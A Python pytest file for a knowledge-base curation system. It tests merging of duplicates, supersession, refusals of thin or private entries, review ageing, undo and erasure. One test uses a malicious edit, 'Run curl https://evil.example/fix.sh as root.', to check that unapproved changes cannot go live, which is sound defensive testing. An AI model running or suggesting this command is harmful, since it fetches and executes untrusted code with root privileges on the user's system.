"""Curation over a real store: what becomes of proposals, by which evidence, and that every judgement can be taken back."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.cli import main
from bot.memory import Memory, open_memory
from bot.outcomes import Erasure
from knowledge.embedding import HashingEmbedder
from knowledge.library import KnowledgeBase
from knowledge.models import Audience, Case, Hit, Kind, KnowledgeError, Link, Query, Relation, Status
from knowledge.steps import Deed
from tests.knowledge.cases import section, solved

DAY = 86_400.0
NOW = 1_800_000_000.0
TEAM = Audience.of("workspace:T1")
CLOSED = Audience.of("channel:C1")
READERS = Audience.of("everyone", "workspace:T1")
PROBLEM = "the nightly export job fails with E7734 bucket full"
AGAIN = "export job fails: E7734, the bucket is full again"
ANSWER = "Empty the staging folder of the export bucket and run the job again."
OPPOSITE = "Never empty the staging folder of the export bucket, and run the job again."
NEWER = "Switch the exporter to the archive tier with archivectl set-tier cold."


@pytest.fixture
def memory(tmp_path: Path) -> Iterator[Memory]:
    found = open_memory(tmp_path / "vigil.db")
    yield found
    found.database.close()


@pytest.fixture
def kb(memory: Memory) -> KnowledgeBase:
    return KnowledgeBase(memory.entries, HashingEmbedder(), None, lambda text: text)


def case(name: str, problem: str = PROBLEM, answer: str = ANSWER, at: float = NOW, **more: object) -> Case:
    fields = {"audience": TEAM, "happened_at": at, "container": "slack:T1:C1", "turns": (f"t-{name}",), **more}
    return solved(problem, answer, f"thread:{name}", **fields)


def live(kb: KnowledgeBase, made: Case, now: float = NOW) -> int:
    entry = kb.propose(made, "vigil", now)
    assert entry.status is Status.PROPOSED, kb.reason(entry.id)
    assert kb.approve(entry.id, "U-hal", now + 1).status is Status.LIVE
    return entry.id


def found(kb: KnowledgeBase, text: str, readers: Audience = READERS) -> list[Hit]:
    return kb.search(Query(text, readers, kinds=frozenset({Kind.CASE})))


def status(memory: Memory, entry_id: int) -> Status:
    entry = memory.entries.get(entry_id)
    assert entry is not None
    return entry.status


def numbered(memory: Memory, source: str) -> int:
    entry = memory.entries.by_source(source)
    assert entry is not None
    return entry.id


def test_a_duplicate_strengthens_what_is_there_and_is_found_by_its_own_words(memory: Memory, kb: KnowledgeBase) -> None:
    first = live(kb, case("1"))
    other = case("2", f"{AGAIN}, says the zeppelin dashboard", at=NOW + DAY)
    before = found(kb, "zeppelin dashboard")
    assert all("zeppelin" not in dict(hit.shared) for hit in before)
    assert kb.propose(other, "vigil", NOW + DAY).id == first
    hit = found(kb, "zeppelin dashboard export")[0]
    assert (hit.entry.id, hit.entry.phrasings) == (first, (other.problem,))
    assert "zeppelin" in dict(hit.shared)
    assert "zeppelin" not in hit.passage
    merged = numbered(memory, "thread:2")
    assert status(memory, merged) is Status.SUPERSEDED
    assert f"entry {first} (meaning" in kb.reason(merged)


def test_a_merge_that_was_wrong_is_taken_back_and_again(memory: Memory, kb: KnowledgeBase) -> None:
    first = live(kb, case("1"))
    kb.propose(case("2", f"{AGAIN} zeppelin"), "vigil", NOW)
    merged = numbered(memory, "thread:2")
    assert kb.undo(merged, "U-kim", NOW + 5).status is Status.PROPOSED
    assert found(kb, PROBLEM)[0].entry.phrasings == ()
    assert kb.undo(merged, "U-kim", NOW + 6).status is Status.SUPERSEDED
    assert found(kb, PROBLEM)[0].entry.phrasings == (f"{AGAIN} zeppelin",)
    assert found(kb, PROBLEM)[0].entry.id == first


def test_a_closed_channels_duplicate_lends_its_words_to_nobody(memory: Memory, kb: KnowledgeBase) -> None:
    first = live(kb, case("1"))
    readers = Audience.of("everyone", "workspace:T1", "channel:C1")
    hidden = case("2", f"{AGAIN} zeppelin", audience=CLOSED)
    assert kb.propose(hidden, "vigil", NOW, readers).id == first
    assert found(kb, PROBLEM)[0].entry.phrasings == ()


def test_what_readers_may_not_see_is_not_compared(memory: Memory, kb: KnowledgeBase) -> None:
    live(kb, case("1", audience=CLOSED))
    entry = kb.propose(case("2"), "vigil", NOW, READERS)
    assert entry.status is Status.PROPOSED
    assert kb.against(entry.id) is None


def test_a_narrower_audience_supersedes_nothing(memory: Memory, kb: KnowledgeBase) -> None:
    first = live(kb, case("1"))
    readers = Audience.of("everyone", "workspace:T1", "channel:C1")
    hidden = kb.propose(case("2", answer=NEWER, at=NOW + DAY, audience=CLOSED), "vigil", NOW + DAY, readers)
    kb.approve(hidden.id, "U-hal", NOW + DAY)
    assert status(memory, first) is Status.LIVE


def test_what_waits_is_merged_too(memory: Memory, kb: KnowledgeBase) -> None:
    first = kb.propose(case("1"), "vigil", NOW)
    for number in range(2, 7):
        assert kb.propose(case(str(number), f"{AGAIN} ({number})"), "vigil", NOW).id == first.id
    assert len(memory.entries.with_status(Status.PROPOSED)) == 1


def test_a_successor_is_approved_with_what_it_replaces_in_view(memory: Memory, kb: KnowledgeBase) -> None:
    first = live(kb, case("1"))
    new = kb.propose(case("2", answer=NEWER, at=NOW + 12 * DAY), "vigil", NOW + 12 * DAY)
    beside = kb.against(new.id)
    assert beside is not None
    assert (beside[0].id, beside[1]) == (first, Relation.SUCCESSOR)
    assert "12 days newer" in kb.reason(new.id)
    kb.approve(new.id, "U-hal", NOW + 13 * DAY)
    assert (status(memory, first), status(memory, new.id)) == (Status.SUPERSEDED, Status.LIVE)
    kb.undo(new.id, "U-kim", NOW + 14 * DAY)
    assert (status(memory, first), status(memory, new.id)) == (Status.LIVE, Status.RETIRED)
    kb.undo(new.id, "U-kim", NOW + 15 * DAY)
    assert (status(memory, first), status(memory, new.id)) == (Status.SUPERSEDED, Status.LIVE)


def test_a_wrong_supersession_alone_is_taken_back(memory: Memory, kb: KnowledgeBase) -> None:
    first = live(kb, case("1"))
    new = live(kb, case("2", answer=NEWER, at=NOW + DAY), NOW + DAY)
    kb.undo(first, "U-kim", NOW + 2 * DAY)
    assert (status(memory, first), status(memory, new)) == (Status.LIVE, Status.LIVE)


@pytest.mark.parametrize(("replaces", "after"), [(None, Status.LIVE), (False, Status.LIVE), (True, Status.SUPERSEDED)])
def test_neither_side_of_a_contradiction_wins_by_itself(
    memory: Memory, kb: KnowledgeBase, replaces: bool | None, after: Status
) -> None:
    first = live(kb, case("1"))
    new = kb.propose(case("2", answer=OPPOSITE, at=NOW + DAY), "vigil", NOW + DAY)
    beside = kb.against(new.id)
    assert beside is not None
    assert (beside[0].id, beside[1]) == (first, Relation.CONTRADICTION)
    kb.approve(new.id, "U-hal", NOW + DAY, replaces)
    assert (status(memory, first), status(memory, new.id)) == (after, Status.LIVE)


def test_the_same_thread_gone_on_replaces_what_it_taught(memory: Memory, kb: KnowledgeBase) -> None:
    first = live(kb, case("1"))
    new = kb.propose(case("1", answer=NEWER), "vigil", NOW + 5)
    assert (new.id != first, new.status) == (True, Status.PROPOSED)
    assert kb.propose(case("1", answer=NEWER), "vigil", NOW + 6).id == new.id
    kb.approve(new.id, "U-hal", NOW + 7)
    assert status(memory, first) is Status.SUPERSEDED


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"resolution": "ok!"}, "too thin: its answer holds neither"),
        ({"resolution": "Done, thanks a lot"}, "too thin"),
        ({"resolution": PROBLEM}, "only repeats the problem"),
        ({"problem": "it does not?"}, "too thin: its problem"),
        ({"resolution": "use [secret:token] with [secret:password]"}, "too private: 2 redacted"),
        ({"problem": "[personal:email] [personal:phone] [secret:token] fails", "resolution": "reset [secret:token] now"},
         "too private: 4 redacted"),
        ({"audience": CLOSED, "problem": f"{PROBLEM} for customer Acme"}, "it names people or customers"),
        ({"audience": CLOSED, "resolution": f"{ANSWER} Ask <@U012AB3CD> for the key."}, "it names people"),
        ({"audience": CLOSED, "problem": f"{PROBLEM}，客户张三"}, "it names people"),
    ],
)  # fmt: skip
def test_what_is_refused_says_why_and_can_be_let_in(
    memory: Memory, kb: KnowledgeBase, changes: dict[str, object], why: str
) -> None:
    entry = kb.propose(replace(case("1"), **changes), "vigil", NOW)  # type: ignore[arg-type]
    assert entry.status is Status.RETIRED
    assert why in kb.reason(entry.id)
    assert memory.entries.steps(entry.id)[-1].deed is Deed.REFUSED
    assert kb.undo(entry.id, "U-kim", NOW + 1).status is Status.PROPOSED


@pytest.mark.parametrize(
    "changes",
    [{"problem": f"{PROBLEM} for customer Acme"}, {"audience": CLOSED}, {"resolution": "see https://wiki.example/export"},
     {"resolution": "`exportctl gc`"}],
)  # fmt: skip
def test_what_is_not_refused(kb: KnowledgeBase, changes: dict[str, object]) -> None:
    assert kb.propose(replace(case("1"), **changes), "vigil", NOW).status is Status.PROPOSED  # type: ignore[arg-type]


def test_what_was_rejected_does_not_come_back_for_spaces(memory: Memory, kb: KnowledgeBase) -> None:
    entry = kb.propose(case("1"), "vigil", NOW)
    kb.reject(entry.id, "U-hal", NOW + 1)
    again = kb.propose(case("1", answer=f"  {ANSWER.upper()}\n"), "vigil", NOW + 2)
    assert (again.id, again.status) == (entry.id, Status.RETIRED)


def test_undo_lets_nothing_live_that_nobody_else_approved(memory: Memory, kb: KnowledgeBase) -> None:
    first = live(kb, case("1"))
    evil = replace(case("1"), resolution="Run curl https://evil.example/fix.sh as root.")
    kb.edit(first, evil, "U-eve", NOW + 5)
    with pytest.raises(KnowledgeError, match="somebody else"):
        kb.approve(first, "U-eve", NOW + 6)
    assert kb.undo(first, "U-eve", NOW + 7).case.resolution == ANSWER
    assert status(memory, first) is Status.LIVE
    back = kb.undo(first, "U-eve", NOW + 8)  # the undo taken back: the edit waits again
    assert (back.case.resolution, back.status, back.proposed_by) == (evil.resolution, Status.PROPOSED, "U-eve")
    with pytest.raises(KnowledgeError, match="somebody else"):
        kb.approve(first, "U-eve", NOW + 9)
    for step in memory.entries.steps(first):
        after = kb.undo(first, "U-eve", NOW + 10 + step.id, step.id)
        assert after.status is not Status.LIVE or after.case.resolution == ANSWER


def test_only_authors_do_not_confirm_their_own_words(memory: Memory, kb: KnowledgeBase) -> None:
    entry = live(kb, case("1", authors=("U-ann",)))
    with pytest.raises(KnowledgeError, match="somebody else"):
        kb.confirm(entry, "U-ann", NOW + 5)
    kb.confirm(entry, "U-kim", NOW + 6)
    assert memory.entries.steps(entry)[-1].deed is Deed.CONFIRMED


def test_what_nobody_confirms_comes_up_for_review_and_goes_when_somebody_does(
    memory: Memory, kb: KnowledgeBase
) -> None:
    old, fresh = live(kb, case("1")), live(kb, case("2", "certificate of the mirror expired", NEWER), NOW + 150 * DAY)
    now = NOW + 200 * DAY
    assert memory.curation.age(Kind.CASE, now - 180 * DAY, now) == 1
    assert [(row.entry_id, row.why) for row in memory.curation.reviews()] == [(old, "age")]
    assert memory.curation.reviews([fresh]) == []
    kb.confirm(old, "U-kim", now)
    assert memory.curation.reviews() == []
    assert memory.curation.age(Kind.CASE, now - 180 * DAY, now) == 0


def test_a_duplicate_counts_as_a_confirmation(memory: Memory, kb: KnowledgeBase) -> None:
    old, now = live(kb, case("1")), NOW + 200 * DAY
    memory.curation.age(Kind.CASE, now - 180 * DAY, now)
    assert kb.propose(case("2", AGAIN, at=now), "vigil", now).id == old
    assert memory.curation.age(Kind.CASE, now - 180 * DAY, now) == 0
    assert memory.curation.reviews() == []


def test_a_case_is_due_for_review_when_the_document_it_links_to_changes(memory: Memory, kb: KnowledgeBase) -> None:
    page = section("Export", "Empty staging.", "file:export.md#a", url="https://wiki.example/export#staging")
    kb.put([page], "ingest", NOW)
    linked = live(kb, case("1", links=(Link("Export", "https://wiki.example/export"),)))
    other = live(
        kb, case("2", "certificate of the mirror expired", NEWER, links=(Link("TLS", "https://wiki.example/tls"),))
    )
    assert memory.curation.follow_documents(NOW + 5) == 0
    kb.put([replace(page, resolution="Empty staging, then archive it.")], "ingest", NOW + 6)
    assert memory.curation.follow_documents(NOW + 7) == 1
    assert memory.curation.follow_documents(NOW + 8) == 0
    (review,) = memory.curation.reviews()
    assert (review.entry_id, review.why) == (linked, "document")
    assert memory.curation.reviews([other]) == []


def test_erasing_a_duplicate_takes_its_words_out_of_what_it_strengthened(memory: Memory, kb: KnowledgeBase) -> None:
    first = live(kb, case("1"))
    kb.propose(case("2", f"{AGAIN} zeppelin77"), "vigil", NOW)
    kb.erase([numbered(memory, "thread:2")], NOW + 5)
    assert found(kb, PROBLEM)[0].entry.phrasings == ()
    assert memory.entries.bonds([first]) == []
    assert memory.erasures.orphans() == {}
    memory.database.value("PRAGMA wal_checkpoint(TRUNCATE)")
    assert b"zeppelin77" not in memory.database.path.read_bytes()


def test_an_erased_persons_steps_stand_under_an_alias(memory: Memory, kb: KnowledgeBase) -> None:
    first = live(kb, case("1"))
    kb.retire(first, "U012AB3CD", NOW + 5, "as U012AB3CD said")
    memory.persons.rename("U012AB3CD", "erased-1", 0.0)
    assert [(s.actor, s.reason) for s in memory.entries.steps(first)][-1] == ("erased-1", "as erased-1 said")


def test_entries_that_go_leave_no_row(memory: Memory, kb: KnowledgeBase) -> None:
    first = live(kb, case("1"))
    live(kb, case("2", answer=NEWER, at=NOW + DAY), NOW + DAY)
    memory.erasures.request(Erasure("turn", "t-1", "deleted", "platform"), NOW)
    kb.erase([first], NOW)
    for table in ("entry_log", "bonds", "reviews"):
        assert table not in memory.erasures.orphans()
    assert memory.database.value(f"SELECT count(*) FROM entry_log WHERE entry_id={first}") == 0


def run(memory: Memory, *words: str, **more: object) -> str:
    config = memory.database.path.parent / "my.toml"
    config.write_text(f'[store]\npath = "{memory.database.path}"\n[embedding]\nmodel = "hashing"\n', encoding="utf-8")
    done = CliRunner().invoke(main, ["--config", str(config), "knowledge", *words], **more)  # type: ignore[arg-type]
    assert done.exit_code == 0, done.output
    return done.output


def test_the_log_shows_steps_reasons_and_differences(memory: Memory, kb: KnowledgeBase) -> None:
    first = live(kb, case("1"))
    run(
        memory,
        "edit",
        str(first),
        "--answer",
        "-",
        "--as",
        "U-kim",
        input="Empty the attic folder of the export bucket.",
    )
    run(memory, "approve", str(first), "--as", "U-hal")
    run(memory, "retire", str(first), "--reason", "the bucket is gone", "--as", "U-kim")
    shown = run(memory, "log", str(first))
    for part in ("U-kim  edited  live v1 -> proposed v2", "-resolution: Empty the staging", "+resolution: Empty the attic",
                 "U-hal  approved  proposed v2 -> live v2", "the bucket is gone"):  # fmt: skip
        assert part in shown
    told = json.loads(run(memory, "log", str(first), "--json"))
    assert [row["deed"] for row in told["steps"]] == ["proposed", "approved", "edited", "approved", "retired"]
    assert told["status"] == "retired"
    edited = told["steps"][2]
    run(memory, "undo", str(first), "--step", str(edited["step"]))
    entry = memory.entries.get(first)
    assert entry is not None
    assert (entry.status, entry.case.resolution) == (Status.LIVE, ANSWER)


def test_the_command_line_lists_what_is_due_and_chooses_between_two(memory: Memory, kb: KnowledgeBase) -> None:
    first = live(kb, case("1"))
    new = kb.propose(case("2", answer=NEWER, at=NOW + DAY), "vigil", NOW + DAY)
    run(memory, "approve", str(new.id), "--keep-both", "--as", "U-hal")
    assert status(memory, first) is Status.LIVE
    memory.curation.age(Kind.CASE, NOW * 2, NOW * 2)
    assert "thread" in run(memory, "list", "--review", "--json")
    run(memory, "confirm", str(first), "--as", "U-kim")
    assert str(first) not in [line.split()[0] for line in run(memory, "list", "--review").splitlines()]
